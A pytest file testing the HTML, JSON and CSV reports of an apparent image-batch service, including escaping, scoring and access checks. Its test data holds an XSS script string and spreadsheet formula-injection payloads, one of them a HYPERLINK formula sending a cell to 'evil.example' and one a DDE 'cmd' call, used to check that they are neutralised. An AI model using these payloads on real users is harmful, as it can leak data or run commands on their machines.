"""The morning's report: what is over, in numbers and pictures, escaped, for its owner alone."""

import csv
import io
import json
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest

from common.errors import WorkerLost
from common.jobs import lease
from common.jobs.lease import StoredImage
from tests.api.conftest import Api
from tests.jobs.make import PICTURE, claimed, submit

SCRIPT = '<script>alert(1)</script> & "a cat"'
MATRIX = {"name": "<b>night</b>", "matrix": {"prompts": ["a red apple", SCRIPT], "styles": ["anime", "comic"]}}
SCORES = (20.0, 22.0, 30.0)
NOT_KEPT = StoredImage(index=0, seed=1, width=64, height=64, clip_score=21.0)


class Elements(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.images: list[dict[str, str | None]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "img":
            self.images.append(dict(attrs))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture
def night(api: Api) -> dict[str, Any]:
    """A batch of which three jobs succeeded and one failed."""
    batch: dict[str, Any] = api.post("/v1/batches", json=MATRIX).json()
    for number, score in enumerate(SCORES):
        keys = {"key": f"images/{number}.png", "thumbnail_key": f"images/{number}.webp"}
        for key in keys.values():
            api.objects.put(key, b"thumb %d" % number, "image/webp")
        lease.succeed(
            api.engine, claimed(api.engine), [replace(PICTURE, clip_score=score, **keys)], recipe={}, timings={}
        )
    lease.fail(api.engine, claimed(api.engine), WorkerLost("the <i>worker</i> went silent"))
    return batch


def report(api: Api, batch: dict[str, Any], form: str) -> str:
    answer = api.get(f"/v1/batches/{batch['id']}/report", params={"format": form})
    assert answer.status_code == 200, answer.text
    return answer.text


def test_the_page_shows_each_picture_and_escapes_what_people_wrote(api: Api, night: dict[str, Any]) -> None:
    page = report(api, night, "html")
    found = Elements(page)
    assert not {"script", "b>night", "i"} & set(found.tags)
    for said in ("<b>night</b>", SCRIPT, "the <i>worker</i> went silent", "kiln batch retry"):
        assert said in found.text
    assert [image["alt"] for image in found.images] == [
        "a red apple, anime, seed 1", "a red apple, comic, seed 1", f"{SCRIPT}, anime, seed 1",
    ]  # fmt: skip
    assert all(str(image["src"]).startswith("data:image/webp;base64,") for image in found.images)
    assert "http://" not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")


def test_the_figures_are_those_of_each_prompt_and_style(api: Api, night: dict[str, Any]) -> None:
    told = json.loads(report(api, night, "json"))
    assert (told["status"], told["jobs"], told["pictures"]) == ("completed", {"succeeded": 3, "failed": 1}, 3)
    assert told["scores"]["prompt"][0] == {
        "prompt": "a red apple", "pictures": 2, "mean": 21.0, "deviation": 1.41, "least": 20.0, "most": 22.0,
    }  # fmt: skip
    assert [(style["style"], style["mean"]) for style in told["scores"]["style"]] == [("anime", 25.0), ("comic", 22.0)]
    assert [(failure["code"], failure["jobs"]) for failure in told["failures"]] == [("worker_lost", 1)]


def test_the_table_has_a_line_for_each_picture_and_each_job_without(api: Api, night: dict[str, Any]) -> None:
    rows = list(csv.DictReader(io.StringIO(report(api, night, "csv"), newline="")))
    assert [(row["prompt"], row["style"], row["clip_score"], row["error"]) for row in rows] == [
        ("a red apple", "anime", "20.0", ""),
        ("a red apple", "comic", "22.0", ""),
        (SCRIPT, "anime", "30.0", ""),
        (SCRIPT, "comic", "", "worker_lost"),
    ]


def test_no_cell_is_a_formula_to_a_spreadsheet(api: Api) -> None:
    sly = ['=HYPERLINK("http://evil.example?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1", "\uff1d1+1", " =1"]
    plain = ["a cat, 1 + 1 = 2", "1-1", "'quoted'"]
    body = "\n".join(json.dumps({"prompt": prompt, "custom_id": prompt}) for prompt in sly + plain)
    headers = {"Content-Type": "application/x-ndjson"}
    batch = api.post("/v1/batches", content=body, headers=headers).json()
    assert api.post(f"/v1/batches/{batch['id']}/cancel").status_code == 200
    told = list(csv.DictReader(io.StringIO(report(api, batch, "csv"))))
    for column in ("prompt", "custom_id"):
        assert sorted(row[column] for row in told) == sorted([f"'{text}" for text in sly] + plain)


def test_a_batch_that_is_not_over_is_told_as_far_as_it_is(api: Api) -> None:
    batch = api.post("/v1/batches", json=MATRIX).json()
    found = Elements(report(api, batch, "html"))
    assert "this is what was over when the report was made" in found.text
    assert "No pictures yet" in found.text
    assert json.loads(report(api, batch, "json"))["pictures"] == 0


def test_other_formats_are_refused_and_others_batches_are_not_there(api: Api, night: dict[str, Any]) -> None:
    assert api.get(f"/v1/batches/{night['id']}/report", params={"format": "pdf"}).status_code == 422
    assert api.get(f"/v1/batches/batch_{submit(api.engine).hex}/report").status_code == 404


def test_the_best_of_each_prompt_is_marked_and_no_picture_is_among_those_of_another(
    api: Api, night: dict[str, Any]
) -> None:
    page = report(api, night, "html")
    rows = page.split('<article class="row')[1:]
    assert [row.count("<img ") for row in rows] == [2, 1]
    assert [row.count('class="best"') for row in rows] == [1, 0], "nothing is best of one"
    assert "22.00" in rows[0].partition('class="best"')[2]
    assert "3 of 4 jobs succeeded; 1 did not." in page


def test_what_was_retried_is_not_told_to_be_run_again(api: Api, night: dict[str, Any]) -> None:
    assert "To run again: 1 job," in Elements(report(api, night, "html")).text
    assert api.post(f"/v1/batches/{night['id']}/retry-failed").status_code == 202
    lease.succeed(api.engine, claimed(api.engine), [NOT_KEPT], recipe={}, timings={})
    text = Elements(report(api, night, "html")).text
    assert "To run again" not in text
    assert "each of these was retried" in text
